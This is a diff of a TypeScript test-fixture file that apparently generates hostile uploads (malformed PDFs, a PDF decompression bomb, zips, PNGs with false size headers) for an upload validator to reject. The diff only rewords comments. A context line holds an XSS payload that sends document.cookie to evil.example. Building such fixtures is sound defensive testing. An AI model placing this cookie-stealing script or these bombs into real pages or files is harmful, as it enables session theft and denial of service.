@@ -2,14 +2,14 @@ import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
 import sharp from 'sharp';
 import { aPng, pngChunk } from './pictures.ts';
 
-/** An upload that must be refused; `says` are the codes that may be given as the reason. */
+/** An upload that must be rejected; `says` are the acceptable error codes. */
 export type HostileFile = { name: string; type: string; fileName?: string; bytes: Buffer; says: string[] };
 
 const script = '<script>fetch("//evil.example/"+document.cookie)</script>';
 const unreadable = ['FILE_UNREADABLE'];
 const wrongType = ['FILE_TYPE'];
 
-/** A PDF of these objects, with a correct cross-reference table. */
+/** A PDF with these objects and a correct cross-reference table. */
 export function aPdf(objects: string[], { trailer = '', after = '' } = {}): Buffer {
   const parts = ['%PDF-1.7\n'];
   const places: number[] = [];
@@ -39,7 +39,7 @@ export function pdfPage(text: string, { catalogue = '', page = '', more = [] as 
   ];
 }
 
-/** A page whose content is `bytes` of zeros, compressed. */
+/** A page with `bytes` zeros as content, compressed. */
 function pdfBomb(bytes: number): Buffer {
   const packed = deflateSync(Buffer.alloc(bytes)).toString('latin1');
   const objects = pdfPage('x');
@@ -61,7 +61,7 @@ function aZip(name: string, content: Buffer): Buffer {
   return Buffer.concat([local, Buffer.from(name), data, end]);
 }
 
-/** A PNG whose header claims these sides, with only a few bytes of data. */
+/** A PNG whose header claims this size, with only a few bytes of data. */
 function pngSaying(width: number, height: number): Buffer {
   const header = Buffer.alloc(13);
   header.writeUInt32BE(width, 0);
